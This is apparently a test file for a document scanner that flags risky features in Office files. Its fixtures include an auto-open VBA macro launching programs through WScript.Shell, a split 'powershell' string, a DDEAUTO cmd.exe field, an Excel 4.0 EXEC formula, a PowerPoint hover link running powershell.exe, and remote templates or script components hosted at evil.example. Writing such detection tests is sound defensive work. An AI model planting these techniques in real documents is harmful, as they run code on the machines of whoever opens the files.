import { toBuffer } from 'qrcode';
import { describe, expect, test } from 'vitest';
import { readFile } from '../../../src/parse/files/read-file.ts';
import { office, ole, relationships, vbaProject } from '../../helpers/office.ts';
import { zip } from '../../helpers/zip.ts';

const look = (bytes: Uint8Array, name: string) => readFile({ bytes, name, declaredType: '', inline: false });
const urls = (content: { links: { url: string }[] }) => content.links.map((link) => link.url);

test('an ordinary letter: its words, and nothing else', async () => {
  const content = await look(office('docx', 'Dear Ada &amp; Bo'), 'letter.docx');
  expect(content).toMatchObject({ type: 'docx', text: 'Dear Ada & Bo', traits: [], links: [], gaps: [], entries: [] });
});

test('the words of a table and of slides', async () => {
  const table = office('xlsx', '', [
    { name: 'xl/sharedStrings.xml', content: '<sst><si><t>Overdue</t></si><si><t>invoice</t></si></sst>' },
  ]);
  expect((await look(table, 'a.xlsx')).text).toBe('Overdue\ninvoice');
  const slides = office('pptx', '', [{ name: 'ppt/slides/slide1.xml', content: '<a:p><a:t>Scan me</a:t></a:p>' }]);
  expect((await look(slides, 'a.pptx')).text).toBe('Scan me');
});

describe('macros', () => {
  const source = 'Sub AutoOpen()\r\n  CreateObject("WScript.Shell").Run "calc"\r\nEnd Sub\r\n';
  const document = (project: Uint8Array, name = 'word/vbaProject.bin') =>
    office('docm', 'Enable content', [{ name, content: project }]);

  test('the source is read, and what it does is named', async () => {
    const content = await look(document(vbaProject(source)), 'a.docm');
    expect(content).toMatchObject({ type: 'docm', gaps: [] });
    expect(content.traits).toEqual(['macro', 'macro-auto-open', 'macro-runs-programs']);
    expect(content.content).toContain('CreateObject("WScript.Shell")');
  });

  test('a macro that starts nothing is a macro and no more', async () => {
    const content = await look(document(vbaProject('Sub Format()\r\n  Range("A1").Bold = True\r\nEnd Sub')), 'a.docm');
    expect(content.traits).toEqual(['macro']);
    expect(content.gaps).toEqual([]);
  });

  test('a long source of many chunks is read to its end', async () => {
    const long = `${"' padding\r\n".repeat(2_000)}Sub Workbook_Open()\r\nEnd Sub`;
    expect((await look(document(vbaProject(long)), 'a.docm')).traits).toEqual(['macro', 'macro-auto-open']);
  });

  test('a word split into strings is put together', async () => {
    const split = 'Sub Document_Open()\r\n x = "pow" & "ersh" & _\r\n "ell"\r\nEnd Sub';
    expect((await look(document(vbaProject(split)), 'a.docm')).traits).toContain('macro-runs-programs');
  });

  test('without its directory the source is found by its first line', async () => {
    const content = await look(document(vbaProject(source, { withDirectory: false })), 'a.docm');
    expect(content.traits).toEqual(['macro', 'macro-auto-open', 'macro-runs-programs']);
  });

  test('a macro under an innocent name is found by its content type', async () => {
    const parts = [
      {
        name: '[Content_Types].xml',
        content:
          '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/media/logo.xml" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
      },
      { name: 'word/document.xml', content: '<w:t>hello</w:t>' },
      { name: 'word/media/logo.xml', content: vbaProject(source) },
    ];
    expect(await look(zip(parts), 'a.docx')).toMatchObject({
      type: 'docm',
      traits: ['macro', 'macro-auto-open', 'macro-runs-programs'],
    });
  });

  test('a project whose source was wiped still runs: that is a gap', async () => {
    const content = await look(document(ole({ 'VBA/Module1': Buffer.from('compiled code only') })), 'a.docm');
    expect(content.traits).toEqual(['macro']);
    expect(content.gaps).toMatchObject([{ why: 'unreadable', blinding: true }]);
  });

  test('a broken project is a macro and a gap', async () => {
    const content = await look(document(Buffer.from('nonsense')), 'a.docm');
    expect(content.traits).toEqual(['macro']);
    expect(content.gaps).toMatchObject([{ why: 'unreadable' }]);
  });

  test('a macro sheet of Excel 4.0', async () => {
    const sheet = { name: 'xl/macrosheets/sheet1.xml', content: '<c><f>EXEC("calc")</f></c>' };
    expect(await look(office('xlsm', 'x', [sheet]), 'a.xlsm')).toMatchObject({
      type: 'xlsm',
      traits: ['excel4-macro'],
    });
  });
});

describe('what a document points at', () => {
  const points = (type: string, target: string) =>
    look(office('docx', 'x', [relationships([{ type, target }])]), 'a.docx');

  test('links', async () => {
    const { links, traits } = await points('hyperlink', 'https://evil.example/a?b=1&amp;c=2');
    expect(links).toEqual([{ url: 'https://evil.example/a?b=1&c=2', source: 'document' }]);
    expect(traits).toEqual([]);
  });

  test.each(['https://evil.example/t.dotm', '\\\\198.51.100.7\\share\\t.dotm', 'file://198.51.100.7/t.dotm'])(
    'a template from elsewhere: %s',
    async (target) => {
      expect((await points('attachedTemplate', target)).traits).toEqual(['remote-template']);
    },
  );

  test('a template on the own disk is how honest documents look', async () => {
    expect(await points('attachedTemplate', 'file:///C:\\Users\\ada\\Normal.dotm')).toMatchObject({
      traits: [],
      links: [],
    });
  });

  test('an object or frame from elsewhere', async () => {
    expect((await points('oleObject', 'mhtml:https://evil.example/a.html!x')).traits).toEqual(['external-object']);
    expect((await points('frame', 'https://evil.example/a')).traits).toEqual(['external-object']);
  });

  test('a picture from elsewhere is let pass', async () => {
    expect(await points('image', 'https://logo.example/a.png')).toMatchObject({ traits: [], links: [] });
  });

  test('attributes in another order, with other quotes and a prefix', async () => {
    const part = {
      name: 'WORD/_rels/settings.xml.RELS',
      content: `<x:Relationship TargetMode = 'External' Target='https://evil.example/t' Type='http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate'/>`,
    };
    expect((await look(office('docx', 'x', [part]), 'a.docx')).traits).toEqual(['remote-template']);
  });

  test('fields and formulas', async () => {
    const field = '<w:p><w:instrText>HYPER</w:instrText><w:instrText>LINK "https://evil.example/f"</w:instrText></w:p>';
    const dde = '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/c calc&quot;"/></w:p>';
    const content = await look(office('docx', 'x', [{ name: 'word/header1.xml', content: field + dde }]), 'a.docx');
    expect(urls(content)).toContain('https://evil.example/f');
    expect(content.traits).toEqual(['command-in-field']);
  });
});

test('a code in a picture of a document', async () => {
  const png = await toBuffer('https://evil.example/qr', { width: 200 });
  const content = await look(office('docx', 'Scan', [{ name: 'word/media/image1.png', content: png }]), 'a.docx');
  expect(content.links).toEqual([{ url: 'https://evil.example/qr', source: 'qr' }]);
});

test('a file packed into a document is listed by its own name', async () => {
  const packed = Buffer.concat([Buffer.alloc(6, 1), Buffer.from('Invoice\0C:\\tmp\\run.exe\0MZ')]);
  const object = ole({ '\u0001Ole10Native': packed });
  const content = await look(
    office('docx', 'x', [{ name: 'word/embeddings/oleObject1.bin', content: object }]),
    'a.docx',
  );
  expect(content.entries.map((entry) => entry.name)).toEqual(['oleObject1.bin/run.exe']);
});

test('a script component that a document points at', async () => {
  const points = relationships([{ type: 'oleObject', target: 'script:https://evil.example/window.sct' }]);
  expect((await look(office('docx', 'x', [points]), 'a.docx')).traits).toEqual(['script-component', 'external-object']);
});

test('a slide that runs a program when the mouse is over it', async () => {
  const target = 'powershell.exe%20-NoP%20-Command%20calc';
  const traits = async (to: string) =>
    (await look(office('pptx', 'x', [relationships([{ type: 'hyperlink', target: to }])]), 'a.pptx')).traits;
  expect(await traits(target)).toEqual(['command-in-field']);
  expect(await traits('https://a.example/how-to-use-powershell.exe')).toEqual([]);
  expect(await traits('file:///C:/Users/ada/figures.xlsx')).toEqual([]);
});

test('the address that stands before all relative links', async () => {
  const properties = '<Properties><HyperlinkBase>https://evil.example/base/</HyperlinkBase></Properties>';
  const content = await look(office('docx', 'x', [{ name: 'docProps/app.xml', content: properties }]), 'a.docx');
  expect(urls(content)).toEqual(['https://evil.example/base/']);
});
